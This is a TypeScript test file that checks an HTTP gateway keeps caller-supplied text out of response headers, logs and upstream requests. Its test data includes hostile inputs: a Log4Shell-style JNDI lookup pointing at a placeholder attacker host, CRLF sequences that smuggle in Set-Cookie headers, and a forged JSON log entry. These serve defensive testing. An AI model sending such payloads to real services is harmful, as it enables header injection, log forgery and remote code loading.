/** What callers write is in no header, no log line and no upstream request unless it may be there. */
import { describe, expect, it } from "vitest";

import { exchangeRaw } from "../support/ask.ts";
import { startGateway } from "../support/gateway.ts";

/** One for another target, the last on its connection. */
function target(text: string): string {
  return `GET ${text} HTTP/1.1\r\nHost: gateway.example\r\nConnection: close\r\n\r\n`;
}

/** The statuses of what came back, after checking that all that is no answer is a problem. */
function statusesIn(raw: string): number[] {
  const statuses = [...raw.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map(([, status]) => Number(status));
  const problems = raw.match(/^content-type: application\/problem\+json\r$/gim) ?? [];
  expect([raw, problems.length]).toEqual([raw, statuses.filter((status) => status >= 400).length]);
  expect(raw).not.toMatch(/^(x-evil|set-cookie):/im);
  expect(raw).not.toMatch(/c00kie|password|127\.0\.0\.1|node:|src\//);
  return statuses;
}

describe("text from a caller", () => {
  const EVIL = [
    '"}\t{"level":"error","msg":"evil"}',
    "evil\xe5\xff",
    "evil; path=/, Set-Cookie: a=b",
    "${jndi:ldap://evil.example/a}",
    "e".repeat(129),
  ];
  it.each([
    "X-Request-Id",
    "X-App-Id",
    "User-Agent",
    "Prefer",
    "Accept-Language",
    "Referer",
    "X-Private-Key",
  ])("in %s is not in the log, the answer or the upstream request", async (name) => {
    const gateway = await startGateway();
    for (const [index, value] of EVIL.entries()) {
      const request = `GET /areas?q=${index} HTTP/1.1\r\nHost: x\r\n${name}: ${value}\r\nConnection: close\r\n\r\n`;
      const raw = await exchangeRaw(gateway.port, Buffer.from(request, "latin1"));
      expect(statusesIn(raw)).toEqual([200]);
      expect(raw.split("\r\n\r\n")[0]).not.toMatch(/evil|e{129}|jndi/);
    }
    await expect
      .poll(() => gateway.log.filter((line) => line.includes('"msg":"request"')).length)
      .toBe(EVIL.length);
    // An app id is in the log, cut to 64 harmless characters.
    const isAppId = name === "X-App-Id" || name === "User-Agent";
    expect(gateway.log.join("")).not.toMatch(isAppId ? /"evil"|e{65}|\$\{|evil;/ : /evil|e{129}|jndi/);
    const requests = gateway.sandbox.requests();
    expect(requests).toHaveLength(EVIL.length);
    for (const { headerNames } of requests) expect(headerNames).toEqual(requests[0]?.headerNames);
  });

  it.each([
    ["the path of nothing", "/%0d%0aSet-Cookie:%20evil=1", 404, []],
    ["a documented parameter", "/areas?q=a%0d%0aSet-Cookie:%20evil=1", 400, []],
    [
      "a parameter of query.allow",
      "/areas?x=%0d%0aSet-Cookie:%20evil=1",
      200,
      ["x=%0D%0ASet-Cookie%3A%20evil%3D1"],
    ],
    ["another parameter's name", "/areas?%0d%0aSet-Cookie=1", 400, []],
  ])("with line breaks in %s adds no header and no log line", async (_where, path, status, queries) => {
    const gateway = await startGateway({ settings: "query: { allow: [x] }" });
    expect(statusesIn(await exchangeRaw(gateway.port, target(path)))).toEqual([status]);
    expect(gateway.sandbox.requests().map(({ query }) => query.replace(/&?offset=0/, ""))).toEqual(queries);
    for (const line of gateway.log) expect(line.trim().split("\n")).toHaveLength(1);
  });
});
